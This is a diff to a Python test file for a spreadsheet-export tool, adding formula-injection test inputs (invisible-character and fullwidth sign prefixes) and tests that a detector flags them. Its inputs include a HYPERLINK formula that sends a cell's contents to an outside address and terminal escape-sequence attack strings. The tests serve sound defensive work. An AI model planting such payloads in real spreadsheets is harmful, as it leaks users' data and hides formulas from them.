@@ -10,13 +10,15 @@ from pathlib import Path
 import openpyxl
 import polars as pl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from rich.console import Console
 
 from baogao.cli.progress import failed_line
 from baogao.console import InertFormatter, inert, log_to_terminal, shown
 from baogao.evaluation.report.render import render_html
 from baogao.llm.server import EmbeddedServer
-from baogao.outputs.export import write_table
+from baogao.outputs.export import may_be_formula, write_table
 from baogao.schema.values import Item, TextAnswer
 from cli.conftest import GOOD
 from outputs.conftest import record
@@ -39,7 +41,18 @@ FORMULAS = [
     "－1",
     "＠SUM(A1)",
     '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
+    *(
+        f"{unseen}=1"
+        for unseen in "\x00\x1f\x7f\u00ad\u034f\u061c\u115f\u1160\u17b4\u180b\u180e\u2800\u3164\uffa0\ufe0f"
+    ),
+    *(f"{unseen}-1" for unseen in "\ufff9\ufff0\U0001d173\U000e0000\U000e0001\U000e007f\U000e0100\U000e01ef"),
+    "\u00ad \ufe0f\U000e0020@SUM(A1)",
+    "﹦1",
+    "﹢1",
+    "﹣1",
+    "﹫SUM(A1)",
 ]
+NO_FORMULAS = ["报告", "全年-1", "\u00ad报告=1", "1=1", "——", "（一）", "", "\u200b", "'=1", "①"]
 ATTACKS = [
     "\x1b]0;owned\x07",
     "\x1b[2J\x1b[31m",
@@ -75,6 +88,18 @@ def test_no_cell_is_a_formula(flagship, tmp_path, text, suffix):
     sheet = openpyxl.load_workbook(path)["figures"]
     assert {cell.data_type for cells in sheet.iter_rows() for cell in cells} <= {"s", "n"}
     assert not any(cell.hyperlink for cells in sheet.iter_rows() for cell in cells)
+
+
+@pytest.mark.parametrize("text", NO_FORMULAS)
+def test_what_is_no_formula_is_left_alone(text):
+    """A text that begins with something that is seen, and is no sign, comes out as it is."""
+    assert not may_be_formula(text)
+
+
+@given(st.text(st.characters(categories=["Cc", "Cf", "Cn", "Co", "M", "Z"])), st.sampled_from("=+-@＝＋－＠"))
+def test_no_run_of_unseen_characters_hides_a_formula(unseen, sign):
+    """However many characters that are not seen stand before the sign, it is found."""
+    assert may_be_formula(f"{unseen}{sign}1")
 
 
 class Page(HTMLParser):
